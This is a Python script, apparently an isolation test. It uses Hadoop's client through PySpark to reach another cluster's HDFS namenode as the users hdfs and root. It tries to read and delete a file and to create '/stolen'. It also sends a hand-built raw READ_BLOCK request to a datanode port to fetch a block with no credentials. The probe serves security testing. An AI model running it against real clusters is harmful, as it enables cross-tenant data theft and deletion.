"""Hadoop's own client at the door of another cluster: its RPC, and the port that gives out blocks."""

import json
import os
import socket
import struct
import sys
from functools import partial

from py4j.protocol import Py4JJavaError
from pyspark.java_gateway import launch_gateway

SECONDS = 20
RPC_SECONDS = 4
READ_BLOCK = 81
VERSION = 28  # of the protocol of the data port
FACTORIES = {
    "own": "slipway.BindSocketFactory",
    "any": "org.apache.hadoop.net.StandardSocketFactory",
}
jvm = launch_gateway().jvm


def open_files(address, user, factory):
    configuration = jvm.org.apache.hadoop.conf.Configuration()
    for name, value in {
        "hadoop.rpc.socket.factory.class.default": FACTORIES[factory],
        "fs.hdfs.impl.disable.cache": "true",
        "dfs.client.retry.policy.enabled": "false",
        "ipc.client.connect.max.retries": "1",
        # Where the network keeps strangers out there is no answer, and else 45 tries of 20 seconds.
        "ipc.client.connect.max.retries.on.timeouts": "0",
        "ipc.client.connect.timeout": str(RPC_SECONDS * 1000),
    }.items():
        configuration.set(name, value)
    return jvm.org.apache.hadoop.fs.FileSystem.get(jvm.java.net.URI(f"hdfs://{address}:8020"), configuration, user)


def try_it(what):
    """[whether it was done, what came of it]"""
    try:
        return [True, str(what())]
    except Py4JJavaError as error:
        return [False, str(error.java_exception.toString())]


def length(files, folder):
    return len(files.listStatus(folder))


def by_rpc(address, path):
    found = {}
    place = jvm.org.apache.hadoop.fs.Path(path)
    for user in ("slipway", "hdfs", "root"):
        for factory in FACTORIES:
            files = open_files(address, user, factory)
            found[f"list as {user} from {factory}"] = try_it(partial(length, files, place.getParent()))
    files = open_files(address, "slipway", "own")
    found["read"] = try_it(lambda: files.open(place).read())
    found["delete"] = try_it(lambda: files.delete(place, True))
    found["write"] = try_it(lambda: files.create(jvm.org.apache.hadoop.fs.Path("/stolen")))
    return found


def varint(number):
    out = b""
    while number > 127:
        out += bytes([number & 127 | 128])
        number >>= 7
    return out + bytes([number])


def field(number, value):
    """One field of a protocol buffer."""
    if isinstance(value, int):
        return varint(number << 3) + varint(value)
    return varint(number << 3 | 2) + varint(len(value)) + value


def read_block(address, told):
    """[whether its port opened, what a datanode gives to who names a block and shows nothing else]"""
    block = field(1, told["pool"].encode()) + field(2, told["block"]) + field(3, told["stamp"]) + field(4, told["size"])
    header = field(1, field(1, block)) + field(2, b"attacker")
    message = field(1, header) + field(2, 0) + field(3, told["size"])
    opened, received = False, b""
    try:
        with socket.create_connection((address, 9866), SECONDS, (os.environ["SPARK_LOCAL_IP"], 0)) as channel:
            opened = True
            channel.sendall(struct.pack(">hB", VERSION, READ_BLOCK) + varint(len(message)) + message)
            while part := channel.recv(65536):
                received += part
    except OSError:
        pass
    return [opened, received.decode("latin-1")]


asked = json.loads(sys.argv[1])
# The block first: what comes after it wants to delete it.
told = {
    "block": read_block(asked["worker"], asked["told"]),
    "own": by_rpc(os.environ["SPARK_LOCAL_IP"], "/jobs/none"),
    "theirs": by_rpc(asked["master"], asked["told"]["path"]),
}
print(f"\nTOLD {json.dumps(told)}")
